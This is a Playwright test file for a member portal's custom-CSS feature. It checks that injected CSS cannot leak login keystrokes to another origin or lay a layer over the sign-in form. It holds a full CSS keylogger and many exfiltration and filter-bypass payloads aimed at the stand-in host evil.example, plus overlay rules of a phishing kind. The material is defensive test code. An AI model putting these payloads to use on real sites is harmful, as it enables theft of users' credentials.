// Custom CSS cannot make the browser fetch anything from another origin: the
// exfiltration routes CSS offers, injected through the demo backend's GENERAL.custom_css, while a
// member types into the login form; the allowed part still styles the page.
import type { Page, Request } from '@playwright/test';
import { DEMO_PASSWORD, accounts, expect, test } from './fixtures';
import { injectCustomCss } from './support/custom-css';

/** Another origin: any request to it is a leak (the test aborts it before it leaves). */
const LEAK = 'http://evil.example/k';

/** One keylogger rule per character the member types, and every other route to a request. */
function hostileCss(typed: string): string {
  const keylogger = [...new Set(typed)].map((c) => {
    const char = JSON.stringify(c);
    return [
      `input[value$=${char}]{background-image:image-set(var(--k) 1x)}`,
      `input[value$=${char}]{background-image:-webkit-image-set(var(--k) 1x)}`,
      `input[value$=${char}]{background:url(${LEAK}?${encodeURIComponent(c)})}`,
      `input[v\\61lue$=${char}]{background:\\75 rl(${LEAK}?e${encodeURIComponent(c)})}`,
    ].join('\n');
  });
  return [
    // Allowed: a custom property and a border through var().
    ':root{--probe:rgb(1, 2, 3)} body{border-top:3px solid var(--probe)}',
    `:root{--k:"${LEAK}";--u:url(${LEAK}?var)}`,
    ...keylogger,
    `body{background-image:var(--u)}`,
    `body{background-image:var(--missing, url(${LEAK}?fallback))}`,
    `body{background-image:var(--missing, image-set("${LEAK}?fallback-set" 1x))}`,
    `@import url(${LEAK}?import);`,
    `@im/**/port "${LEAK}?import2";`,
    `@font-face{font-family:leak;src:url(${LEAK}?font)} body{font-family:leak}`,
    `body{cursor:url(${LEAK}?cursor), auto}`,
    `main{mask-image:url(${LEAK}?mask);-webkit-mask-image:url(${LEAK}?wmask)}`,
    `header{border-image:url(${LEAK}?border) 30 round}`,
    `li,ul{list-style-image:url(${LEAK}?list)}`,
    `label::after{content:url(${LEAK}?content)}`,
    `form{background:u\\rl(${LEAK}?esc1)}`,
    `form{background:u/**/rl(${LEAK}?comment)}`,
    `form{background:image("${LEAK}?image")}`,
    `a{}</style><img src="${LEAK}?breakout"><style>`,
  ].join('\n');
}

function offOriginRequests(page: Page, origin: string): string[] {
  const leaks: string[] = [];
  const record = (request: Request) => {
    const url = new URL(request.url());
    if (/^(?:https?|wss?|ftp):$/.test(url.protocol) && url.origin !== origin) leaks.push(request.url());
  };
  page.context().on('request', record);
  page.context().on('requestfailed', record);
  return leaks;
}

test('custom CSS cannot send what a member types anywhere, and still styles the page', async ({ page, demo, baseURL }) => {
  const origin = new URL(baseURL!).origin;
  const email = accounts.verified.email;
  await injectCustomCss(page, demo, hostileCss(`${email}${DEMO_PASSWORD}`));
  const leaks = offOriginRequests(page, origin);
  await page.context().route((url) => url.origin !== origin && url.protocol.startsWith('http'), (route) => route.abort());

  await page.goto('/pass-login');
  const css = page.locator('style#portal-custom-css');
  await expect(css).toHaveCount(1);

  await page.getByLabel(/e-?mail/i).pressSequentially(email);
  await page.getByLabel(/password/i).first().pressSequentially(DEMO_PASSWORD);
  await page.getByRole('button', { name: /log in/i }).click();
  await expect(page.getByText('1,250 points')).toBeVisible();
  await page.waitForLoadState('networkidle');

  expect(leaks).toEqual([]);
  // The allowed rule applies: the custom property reaches the border.
  await expect(page.locator('body')).toHaveCSS('border-top-color', 'rgb(1, 2, 3)');
  await expect(page.locator('body')).toHaveCSS('border-top-width', '3px');
  const text = (await css.textContent()) ?? '';
  expect(text).not.toMatch(/@import|@font-face|url\(|image-set|\[value/i);
});

test('custom CSS lays no layer over the sign-in form, and keeps the rules before a { that is never closed', async ({ page, demo }) => {
  const warnings: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
  });
  await injectCustomCss(
    page,
    demo,
    [
      'body { border-top: 3px solid rgb(1, 2, 3) }',
      'form::after { content: "Call +420 123 456 789"; display: block; position: fixed; inset: 0; z-index: 2147483647; background: white }',
      'header::before { content: ""; position: absolute; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99 }',
      '@media screen {',
      '  body { border-top-color: rgb(9, 9, 9) }',
    ].join('\n'),
  );
  await page.goto('/pass-login');
  await expect(page.locator('style#portal-custom-css')).toHaveCount(1);
  // The rule before the break applies; the never-closed @media and what it swallowed do not.
  await expect(page.locator('body')).toHaveCSS('border-top-color', 'rgb(1, 2, 3)');
  expect(warnings.some((w) => w.includes('[custom_css] does not parse completely (line 4, column 15)')), warnings.join('\n')).toBe(true);

  const form = page.locator('form').first();
  expect(await form.evaluate((el) => getComputedStyle(el, '::after').position)).toBe('static');
  expect(await form.evaluate((el) => getComputedStyle(el, '::after').zIndex)).toBe('auto');
  expect(await page.locator('header').first().evaluate((el) => getComputedStyle(el, '::before').position)).not.toMatch(/absolute|fixed|sticky/);
  // A click on the login button reaches the button, not a layer above it.
  const button = page.getByRole('button', { name: /log in/i });
  const box = (await button.boundingBox())!;
  const hit = await page.evaluate(([x, y]) => document.elementFromPoint(x!, y!)?.closest('button')?.textContent ?? null, [box.x + box.width / 2, box.y + box.height / 2]);
  expect(hit).toMatch(/log in/i);
});
